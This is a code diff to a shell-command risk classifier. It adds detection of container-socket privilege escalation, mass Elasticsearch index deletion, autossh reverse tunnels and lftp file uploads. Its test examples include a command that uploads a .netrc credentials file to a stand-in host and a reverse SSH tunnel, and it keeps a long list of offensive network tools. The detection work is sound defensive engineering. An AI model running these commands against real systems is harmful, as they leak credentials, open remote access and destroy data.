@@ -1,3 +1,4 @@
+import { baseName } from '../../core/options.ts';
 import { concat, literalText, type Word, word } from '../../core/word.ts';
 import { type Draft, onHost, onPath } from '../draft.ts';
 import type { Family } from '../model.ts';
@@ -39,6 +40,7 @@ function curl(argv: readonly Word[]): Draft[] {
   const sends = has(...body) || /^(?:POST|PUT|PATCH)$/.test(method);
   const query = urls.some(carries);
   const quote = literalText(value('Q', 'quote') ?? []);
+  const socket = /\/(?:docker|podman|containerd|crio)\.sock$/.test(literalText(value('unix-socket') ?? []));
   const files = given.some(
     ([{ name }, text]) =>
       /^(?:T|upload-file)$/.test(name) || (BODY.test(name) && /(?:^|=)@|=</.test(literalText(text ?? []))),
@@ -48,6 +50,15 @@ function curl(argv: readonly Word[]): Draft[] {
       ...(sends ? {} : query ? { deed: 'query' } : {}),
       ...((files || takesAlong(argv)) && CHATS.test(literalText(url)) ? { host: 'drop' as const } : {}),
     }),
+    ...(socket && HOST_CONTAINER.test(argv.map(literalText).join(' '))
+      ? [{ kind: 'escalate', target: url, on: 'resource', deed: 'privileged-container' } as const]
+      : []),
+    // Every index of a search engine at once.
+    ...(method === 'DELETE' &&
+    /\/(?:_all|\*)(?:$|\?)/.test(literalText(url)) &&
+    /:9200|elastic|opensearch|\bes\b/.test(literalText(url))
+      ? [{ kind: 'infra-destroy', target: url, on: 'resource', deed: 'delete-indices' } as const]
+      : []),
     ...(method === 'DELETE' || /^-?(?:DELE|RMD|rm)\b/i.test(quote)
       ? [{ kind: 'infra-destroy', target: url, on: 'resource', deed: 'api-delete' } as const]
       : []),
@@ -58,6 +69,10 @@ function curl(argv: readonly Word[]): Draft[] {
       : []),
   ]);
 }
+
+/** What a container engine is asked for, to make a container that has the host. */
+const HOST_CONTAINER =
+  /"Privileged"\s{0,8}:\s{0,8}true|"Binds"\s{0,8}:\s{0,8}\[\s{0,8}"\/(?::|etc|root|var|home)|"PidMode"\s{0,8}:\s{0,8}"host"/;
 
 const BODY = /^(?:d|data|data-ascii|data-binary|data-urlencode|json|F|form)$/;
 
@@ -174,13 +189,15 @@ const SSH_OPTIONS =
   'B= b= c= D= E=write e= F=read I= i= J= L= l= m= O= o= p= P= Q= R= S= W= w= 4 6 A a C f G g K k M N n q s T t V+ask v X x Y y';
 
 const readSsh = optionReader(SSH_OPTIONS, { posix: true });
+/** Its `-M` takes the port it watches the connection by. */
+const readAutossh = optionReader(SSH_OPTIONS.replace(' M ', ' M= '), { posix: true });
 
 /** Where SSH, telnet, remote desktops and VNC let people in. */
 const LOGIN_PORT = /:(?:22|23|3389|590\d)$/;
 
 /** Forwarding of ports: `-R` lets the other side in. */
 function forwards(argv: readonly Word[]): Draft[] {
-  const { given, operands } = readSsh(argv);
+  const { given, operands } = (baseName(argv[0] ?? []) === 'autossh' ? readAutossh : readSsh)(argv);
   const [host] = operands;
   const remote = given.find(([{ name }]) => name === 'R')?.[1];
   const local = given.find(([{ name }]) => name === 'L' || name === 'D')?.[1];
@@ -277,7 +294,7 @@ function httpie(argv: readonly Word[]): Draft[] {
 
 export const NETWORK: Family = {
   names:
-    'curl wget wget2 http https xh xhs aria2c axel yt-dlp youtube-dl gallery-dl httrack lwp-download GET fetch lynx w3m links elinks urlget lp lpr cancel ztcp zftp zsocket ldapadd ldapmodify ldapdelete ldapmodrdn ldappasswd ldapsearch psexec.py wmiexec.py smbexec.py atexec.py dcomexec.py evil-winrm crackmapexec nxc netexec winrs winexe nc ncat netcat nc.openbsd nc.traditional socat socket telnet rlogin rsh mosh autossh sshpass ssh dbclient ssh-copy-id ssh-keygen ssh-keyscan ssh-add ssh-agent scp pscp rsync rdiff unison croc magic-wormhole wormhole ffsend transfer bashupload termbin pastebinit wgetpaste gist imgur-screenshot syncthing onionshare onionshare-cli ftp lftp ncftp ncftpput ncftpget tftp sftp smbclient cadaver davfs2 openssl dig nslookup host drill resolvectl whois kdig delv dog finger getent ping ping6 traceroute tracepath mtr nmap masscan zmap hping3 arping fping nping rustscan nikto sqlmap hydra gobuster ffuf wfuzz ab wrk hey siege vegeta k6 iperf iperf3 dirb medusa ncrack aircrack-ng tmate ngrok cloudflared lt localtunnel bore frpc chisel pagekite inlets tailscale zerotier-cli gost rathole zrok teleport tsh http-server serve live-server webfsd darkhttpd miniserve caddy nginx apache2 httpd lighttpd traefik haproxy uvicorn gunicorn simplehttpserver ttyd gotty wetty sshd telnetd vncserver x11vnc xrdp stunnel mail mailx mutt sendmail swaks msmtp s-nail ssmtp mpack neomutt exim postfix',
+    'curl wget wget2 http https xh xhs aria2c axel yt-dlp youtube-dl gallery-dl httrack lwp-download GET fetch lynx w3m links elinks urlget lp lpr cancel ztcp zftp zsocket ldapadd ldapmodify ldapdelete ldapmodrdn ldappasswd ldapsearch psexec.py wmiexec.py smbexec.py atexec.py dcomexec.py evil-winrm crackmapexec nxc netexec winrs winexe nc ncat netcat nc.openbsd nc.traditional socat socket telnet rlogin rsh mosh sshpass autossh ssh dbclient ssh-copy-id ssh-keygen ssh-keyscan ssh-add ssh-agent scp pscp rsync rdiff unison croc magic-wormhole wormhole ffsend transfer bashupload termbin pastebinit wgetpaste gist imgur-screenshot syncthing onionshare onionshare-cli ftp lftp ncftp ncftpput ncftpget tftp sftp smbclient cadaver davfs2 openssl dig nslookup host drill resolvectl whois kdig delv dog finger getent ping ping6 traceroute tracepath mtr nmap masscan zmap hping3 arping fping nping rustscan nikto sqlmap hydra gobuster ffuf wfuzz ab wrk hey siege vegeta k6 iperf iperf3 dirb medusa ncrack aircrack-ng tmate ngrok cloudflared lt localtunnel bore frpc chisel pagekite inlets tailscale zerotier-cli gost rathole zrok teleport tsh http-server serve live-server webfsd darkhttpd miniserve caddy nginx apache2 httpd lighttpd traefik haproxy uvicorn gunicorn simplehttpserver ttyd gotty wetty sshd telnetd vncserver x11vnc xrdp stunnel mail mailx mutt sendmail swaks msmtp s-nail ssmtp mpack neomutt exim postfix',
   models: () => ({
     curl: {
       options: CURL_OPTIONS,
@@ -371,10 +388,16 @@ export const NETWORK: Family = {
         'socket --help': '',
       },
     },
-    'telnet|rlogin|rsh|mosh|autossh|sshpass': {
+    'telnet|rlogin|rsh|mosh|sshpass': {
       options: 'l= e= b= p= n= f=read S= a K c x E L M=',
       does: 'send:connect',
       examples: { 'telnet --help': '', 'telnet host.test 23': 'send' },
+    },
+    autossh: {
+      options: SSH_OPTIONS.replace(' M ', ' M= '),
+      posix: true,
+      special: forwards,
+      examples: { 'autossh -V': '', 'autossh -M 0 -R 2222:localhost:22 x.test': 'listen send' },
     },
     'ssh|dbclient': {
       options: SSH_OPTIONS,
@@ -440,9 +463,15 @@ export const NETWORK: Family = {
       },
     },
     'lftp|ncftp|ncftpput|ncftpget|tftp|sftp|smbclient|cadaver|davfs2': {
-      options: 'c|command= e= u|user= p= b=read f=read U= P= i= o= F= S= R m= l= D= N L I= A=read',
+      options:
+        'c|command=transfer e=transfer u|user= p= b=read f=read U= P= i= o= F= S= R m= l= D= N L I= A=read',
       does: 'send:connect',
-      examples: { 'lftp --help': '', 'lftp host.test': 'send' },
+      stdin: 'transfer',
+      examples: {
+        'lftp --help': '',
+        'lftp host.test': 'send',
+        "lftp -c 'put /home/user/.netrc' host.test": 'credential-access send',
+      },
     },
     openssl: {
       verbs: {
